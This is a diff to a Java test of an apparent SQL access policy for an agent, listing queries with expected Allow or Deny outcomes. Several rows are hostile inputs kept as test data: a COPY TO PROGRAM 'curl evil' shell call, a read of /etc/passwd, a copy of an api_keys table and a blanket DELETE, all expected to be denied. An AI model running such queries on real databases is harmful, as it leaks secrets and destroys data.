@@ -70,7 +70,12 @@ class PolicyDecisionTest {
         row("SELECT * FROM PUBLIC.customers", "Allow", "agent.read-write"),
         row("select * from public.customers", "Allow", "agent.read-write"),
         row("SELEC 1", "Deny", "default-deny"),
-        row("COPY public.orders TO PROGRAM 'curl evil'", "Deny", "default-deny"),
+        row("COPY public.orders TO PROGRAM 'curl evil'", "Deny", "deny.copy-program-file"),
+        row("COPY public.orders FROM '/etc/passwd'", "Deny", "deny.copy-program-file"),
+        row("COPY public.orders TO STDOUT", "Allow", "agent.copy"),
+        row("COPY (SELECT * FROM public.orders) TO STDOUT", "Allow", "agent.copy"),
+        row("COPY (SELECT * FROM internal.api_keys) TO STDOUT", "Deny", "deny.internal"),
+        row("SELECT relname FROM pg_catalog.pg_class", "Allow", "agent.catalog"),
         row("DO $$ BEGIN DELETE FROM public.orders; END $$", "Deny", "default-deny"));
   }
 
